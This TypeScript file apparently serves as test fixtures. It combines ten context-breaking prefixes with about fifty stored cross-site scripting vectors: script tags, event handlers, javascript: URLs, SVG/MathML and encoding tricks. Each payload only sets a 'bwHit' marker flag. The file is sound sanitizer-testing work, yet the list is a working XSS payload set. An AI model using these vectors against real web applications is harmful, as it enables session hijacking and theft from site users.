/**
 * Five hundred ways to have script run by text that was stored: what ends the place where the text stands, times what
 * runs there. Each sets `bwHit` if it succeeds.
 */
const hit = 'window.bwHit=1'

const endings = ['', '"', "'", '">', "'>", '</title>', '</textarea></select>', '-->', '</script>', ']]>']

const vectors = [
  `<script>${hit}</script>`,
  `<SCRIPT >${hit}</SCRIPT >`,
  `<scr<script>ipt>${hit}</scr</script>ipt>`,
  `<script/src="data:,${hit}"></script>`,
  `<script type=module>${hit}</script>`,
  `<img src=x onerror=${hit}>`,
  `<img/src="x"/onerror="${hit}">`,
  `<img src=x onerror\n=\n${hit}>`,
  `<IMG SRC=x ONERROR=${hit}>`,
  `<img src="data:image/svg+xml,<svg onload=${hit}>">`,
  `<svg onload=${hit}>`,
  `<svg/onload=${hit}>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${hit}"><text>x</text></a></svg>`,
  `<math><mtext><img src=x onerror=${hit}></mtext></math>`,
  `<math href="javascript:${hit}">x</math>`,
  `<iframe src="javascript:${hit}"></iframe>`,
  `<iframe srcdoc="<script>parent.bwHit=1</script>"></iframe>`,
  `<object data="javascript:${hit}"></object>`,
  `<embed src="javascript:${hit}">`,
  `<a href="javascript:${hit}">x</a>`,
  `<a href="JaVaScRiPt:${hit}">x</a>`,
  `<a href="java\tscript:${hit}">x</a>`,
  `<a href="&#106;avascript:${hit}">x</a>`,
  `<form action="javascript:${hit}"><input type=submit></form>`,
  `<button formaction="javascript:${hit}">x</button>`,
  `<input autofocus onfocus=${hit}>`,
  `<textarea autofocus onfocus=${hit}></textarea>`,
  `<select autofocus onfocus=${hit}></select>`,
  `<details open ontoggle=${hit}><summary>x</summary></details>`,
  `<video><source onerror=${hit}></video>`,
  `<video src=x onerror=${hit}></video>`,
  `<audio src=x onerror=${hit}></audio>`,
  `<body onload=${hit}>`,
  `<marquee onstart=${hit}>x</marquee>`,
  `<style onload=${hit}></style>`,
  `<style>@import "javascript:${hit}";</style>`,
  `<link rel=stylesheet href=x onerror=${hit}>`,
  `<link rel=import href="data:text/html,<script>${hit}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${hit}">`,
  `<base href="javascript:${hit}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript>`,
  `<template><img src=x onerror=${hit}></template><img src=x onerror=${hit}>`,
  `<div onmouseover=${hit} style="position:fixed;inset:0">x</div>`,
  ` onerror=${hit} onfocus=${hit} autofocus tabindex=0 x=`,
  `\${${hit}}{{constructor.constructor('${hit}')()}}`,
  `&lt;img src=x onerror=${hit}&gt;`,
  `\\u003cimg src=x onerror=${hit}\\u003e`,
  `\u2028;${hit};//\u202e<img src=x onerror=${hit}>`,
]

export const storedPayloads: readonly string[] = endings.flatMap(ending => vectors.map(vector => ending + vector))
